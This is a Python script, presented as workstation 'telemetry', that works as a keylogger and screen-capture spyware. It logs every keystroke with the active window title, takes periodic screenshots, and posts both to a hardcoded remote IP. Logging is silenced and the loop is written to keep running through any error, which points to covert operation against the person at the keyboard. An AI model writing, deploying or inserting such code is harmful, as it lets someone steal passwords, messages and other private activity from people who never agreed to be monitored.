#!/usr/bin/env python3
"""Workstation activity telemetry.

Collects keystrokes with the active window title and periodic screenshots,
and ships them in batches to the collector."""

import argparse
import io
import logging
import os
import platform
import threading
import time
import uuid

import mss
import requests
from PIL import Image
from pynput import keyboard

log = logging.getLogger("telemetry")

COLLECTOR = os.environ.get("TELEMETRY_URL", "http://203.0.113.47:8443/ingest")
AGENT_ID = uuid.uuid5(uuid.NAMESPACE_DNS, platform.node()).hex[:16]


def active_window_title() -> str:
    try:
        from Xlib import X, display
        d = display.Display()
        root = d.screen().root
        atom = d.intern_atom("_NET_ACTIVE_WINDOW")
        wid = root.get_full_property(atom, X.AnyPropertyType).value[0]
        win = d.create_resource_object("window", wid)
        name = win.get_wm_name()
        d.close()
        return name or ""
    except Exception:
        return ""


class KeyBuffer:
    def __init__(self):
        self.lock = threading.Lock()
        self.chunks = []
        self.current_title = None

    def on_press(self, key):
        title = active_window_title()
        try:
            ch = key.char
        except AttributeError:
            ch = {keyboard.Key.space: " ", keyboard.Key.enter: "\n",
                  keyboard.Key.tab: "\t"}.get(key, f"[{getattr(key, 'name', key)}]")
        if ch is None:
            return
        with self.lock:
            if title != self.current_title:
                self.chunks.append(f"\n<<{title}>>\n")
                self.current_title = title
            self.chunks.append(ch)

    def drain(self) -> str:
        with self.lock:
            data = "".join(self.chunks)
            self.chunks.clear()
        return data


class Shipper:
    def __init__(self, url: str, session: requests.Session):
        self.url = url
        self.session = session

    def send_keys(self, text: str) -> None:
        if not text:
            return
        self.session.post(f"{self.url}/keys", timeout=20,
                          json={"agent": AGENT_ID, "ts": time.time(), "data": text})

    def send_screen(self, jpeg: bytes) -> None:
        self.session.post(f"{self.url}/screen", timeout=60,
                          data={"agent": AGENT_ID, "ts": str(time.time())},
                          files={"img": ("s.jpg", jpeg, "image/jpeg")})


def grab_screen_jpeg(quality: int, scale: float) -> bytes:
    with mss.mss() as sct:
        shot = sct.grab(sct.monitors[0])
    img = Image.frombytes("RGB", shot.size, shot.bgra, "raw", "BGRX")
    if scale != 1.0:
        img = img.resize((int(img.width * scale), int(img.height * scale)))
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=quality)
    return buf.getvalue()


def ship_loop(buf: KeyBuffer, shipper: Shipper, args, stop: threading.Event):
    last_shot = 0.0
    while not stop.wait(args.key_interval):
        try:
            shipper.send_keys(buf.drain())
            if time.monotonic() - last_shot >= args.shot_interval:
                shipper.send_screen(grab_screen_jpeg(args.quality, args.scale))
                last_shot = time.monotonic()
        except requests.RequestException as exc:
            log.debug("collector unreachable: %s", exc)
        except Exception as exc:  # never die
            log.debug("error: %s", exc)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", default=COLLECTOR)
    ap.add_argument("--key-interval", type=float, default=30.0)
    ap.add_argument("--shot-interval", type=float, default=120.0)
    ap.add_argument("--quality", type=int, default=40)
    ap.add_argument("--scale", type=float, default=0.5)
    args = ap.parse_args()
    logging.basicConfig(level=logging.CRITICAL)

    session = requests.Session()
    session.headers["X-Agent"] = AGENT_ID
    buf = KeyBuffer()
    stop = threading.Event()
    worker = threading.Thread(target=ship_loop, args=(buf, Shipper(args.url, session), args, stop),
                              daemon=True)
    worker.start()
    with keyboard.Listener(on_press=buf.on_press) as listener:
        try:
            listener.join()
        finally:
            stop.set()


if __name__ == "__main__":
    main()
